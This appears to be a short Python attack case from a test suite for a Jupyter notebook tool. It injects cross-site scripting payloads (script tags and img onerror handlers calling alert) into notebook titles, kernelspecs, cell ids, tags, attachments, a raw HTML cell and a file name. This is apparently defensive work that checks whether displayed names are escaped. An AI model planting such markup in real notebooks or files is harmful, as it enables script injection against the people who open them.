# /// attack
# catalogue = "showing: names"
# layers = ["display"]
# aim = "markup"
# ///
# Puts markup where names stand: of cells, tags, kernels, files and attachments.

# %% prepare
bad = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
notebook["metadata"]["title"] = "</title>" + bad
notebook["metadata"]["language_info"] = {"name": "python", "pygments_lexer": bad}
notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"a": bad}}}
notebook["metadata"]["kernelspec"] = {"name": "python3", "display_name": bad, "language": bad}
for number, cell in enumerate(notebook["cells"]):
    if not cell["metadata"].get("nbgrader"):
        cell["id"] = f"x{bad}{number}"
        cell["metadata"]["tags"] = [bad]
text = {"cell_type": "markdown", "id": "m", "metadata": {}, "source": "![a](attachment:x.png)"}
notebook["cells"].append({**text, "attachments": {"x.png": {"image/png": bad}, bad: {"text/html": bad}}})
raw = {"cell_type": "raw", "id": "r", "metadata": {"raw_mimetype": "text/html"}, "source": bad}
notebook["cells"].append(raw)
(folder / "<img src=x onerror=alert(3)>.txt").write_text("x")
